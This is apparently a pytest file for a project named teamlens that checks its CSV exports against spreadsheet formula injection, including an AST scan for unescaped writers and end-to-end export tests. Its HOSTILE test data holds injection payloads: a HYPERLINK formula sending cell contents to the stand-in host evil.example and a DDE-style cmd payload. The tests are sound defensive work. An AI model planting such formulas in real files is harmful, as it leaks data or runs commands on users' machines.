"""A30 — spreadsheet formulas in the CSV files teamlens writes (CSV injection).

A group's name comes from the HR export, so whoever can edit it can name a team
``=HYPERLINK("https://evil.example/?"&A1,"details")``; a worker who opens their access export
in a spreadsheet would run it. (a) Every module in ``src/`` that writes CSV passes its cells
through ``domain.spreadsheet``; teeth: a writer that does not is caught. (b) Through the whole
flow — HR export, ingest, release, the worker's access export — no cell of any CSV starts with
``=``, ``+``, ``-``, ``@``, a tab or a carriage return, and the name is still there, as text.
Teeth: with the escaping switched off, the formula reaches the export verbatim. (c) The worker's
CSVs and the synthetic exports escape every such start, whatever follows it.
"""

from __future__ import annotations

import ast
import csv
import importlib
import io
import shutil
from pathlib import Path

import pytest

from teamlens import services
from teamlens.domain import spreadsheet
from teamlens.domain.spreadsheet import FORMULA_STARTS, spreadsheet_safe
from teamlens.services.access_export import HeldData, ReleaseEntered, export_files

from ..integration.flow_support import dpo_fulfils
from .conftest import install

SRC = Path(__file__).resolve().parents[2] / "src" / "teamlens"
WRITERS = {"writer", "DictWriter", "write_csv", "to_csv", "CSVWriter"}
HELPERS = {"spreadsheet_safe", "safe_row", "safe_text_column"}
HOSTILE = (
    '=HYPERLINK("https://evil.example/?"&A1,"details")',
    "+SUM(1;2)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
)


def unsafe_csv_writers(paths: list[Path]) -> list[str]:
    """Modules that call a CSV writer but never a ``domain.spreadsheet`` helper."""
    found = []
    for path in paths:
        tree = ast.parse(path.read_text("utf-8"))
        called = {
            node.func.attr if isinstance(node.func, ast.Attribute) else getattr(node.func, "id", "")
            for node in ast.walk(tree)
            if isinstance(node, ast.Call)
        }
        imports_csv = any(
            isinstance(node, ast.Import | ast.ImportFrom)
            and any(
                "csv" in (alias.name or "") or "csv" in (getattr(node, "module", "") or "")
                for alias in node.names
            )
            for node in ast.walk(tree)
        )
        if imports_csv and called & WRITERS and not called & HELPERS:
            found.append(str(path))
    return found


@pytest.mark.attack("A30")
def test_a30_every_csv_writer_in_the_source_escapes_its_cells(measure) -> None:
    paths = sorted(SRC.rglob("*.py"))
    writers = [p for p in paths if set(ast.dump(ast.parse(p.read_text("utf-8"))).split("'")) & WRITERS]
    found = unsafe_csv_writers(paths)
    measure(a30_modules_scanned=len(paths), a30_unsafe_writers=found)
    assert len(writers) >= 3  # the access export and the two synthetic export writers at least
    assert found == []


@pytest.mark.attack("A30", teeth=True)
def test_a30_teeth_a_writer_without_the_helper_is_caught(tmp_path: Path) -> None:
    bad = tmp_path / "bad.py"
    bad.write_text("import csv\n\ndef f(out, rows):\n    csv.writer(out).writerows(rows)\n")
    assert unsafe_csv_writers([bad]) == [str(bad)]


def _held(groups: tuple[str, ...]) -> HeldData:
    entered = tuple(
        ReleaseEntered("r1", "p", 1, "team-quarterly", "team", group, "2026-Q1", ("m",), "g", 0.1, 1.0, "t")
        for group in groups
    )
    facts = tuple(
        {"day": "2026-01-05", "days": 1, "metric": name, "value": 1, "source": name} for name in groups
    )
    return HeldData("p" * 64, "t", facts, (), entered, None, (), ())


def _cells(files: dict[str, bytes]) -> list[str]:
    cells = []
    for name, data in files.items():
        if name.endswith(".csv"):
            cells += [
                cell for row in csv.reader(io.StringIO(data.decode("utf-8"), newline="")) for cell in row
            ]
    return cells


@pytest.mark.attack("A30")
def test_a30_the_worker_csvs_escape_every_formula_start() -> None:
    cells = _cells(export_files(_held(HOSTILE)))
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
    for text in HOSTILE:  # still there, as text
        assert "'" + text in cells
    # Whatever follows the first character; numbers stay numbers.
    for start in FORMULA_STARTS:
        for rest in ("", "1", "x", "=1", " ", "\n"):
            assert spreadsheet_safe(start + rest) == "'" + start + rest
    assert spreadsheet_safe(-5) == -5 and spreadsheet_safe("5") == "5" and spreadsheet_safe(None) is None


def _rename_team(directory: Path, name: str) -> str:
    with directory.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    team = max({row["Team"] for row in rows}, key=lambda t: sum(row["Team"] == t for row in rows))
    for row in rows:
        if row["Team"] == team:
            row["Team"] = name
    with directory.open("w", encoding="utf-8", newline="") as out:
        writer = csv.DictWriter(out, fieldnames=list(rows[0]), lineterminator="\n")
        writer.writeheader()
        writer.writerows(rows)
    return next(row["Email"] for row in rows if row["Team"] == name)


def _export_cells(small_exports: Path, root: Path) -> list[str]:
    exports = root / "exports"
    shutil.copytree(small_exports, exports)
    member = _rename_team(exports / "hr" / "directory.csv", HOSTILE[0])
    installation = install(root / "install", exports)
    services.release(installation.ws, "team-quarterly", ["2026-Q1"], actor="analyst")
    out = root / "export"
    dpo_fulfils(installation.ws, member, "access", out)
    installation.ws.governance.close()
    return _cells({path.name: path.read_bytes() for path in out.iterdir()})


@pytest.mark.attack("A30")
def test_a30_a_formula_team_name_reaches_the_access_export_as_text(
    small_exports: Path, tmp_path: Path, measure
) -> None:
    cells = _export_cells(small_exports, tmp_path)
    risky = [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
    measure(a30_export_cells=len(cells), a30_formula_cells=len(risky))
    assert "'" + HOSTILE[0] in cells
    assert risky == []


@pytest.mark.attack("A30", teeth=True)
def test_a30_teeth_without_escaping_the_formula_arrives_verbatim(
    small_exports: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    module = importlib.import_module("teamlens.services.access_export")
    monkeypatch.setattr(module, "spreadsheet_safe", lambda value: value)
    assert HOSTILE[0] in _export_cells(small_exports, tmp_path)


def test_the_synthetic_exports_escape_text_columns() -> None:
    import pyarrow as pa

    column = spreadsheet.safe_text_column(pa.array([*HOSTILE, "Ops", None]))
    assert column.to_pylist() == [*("'" + text for text in HOSTILE), "Ops", None]
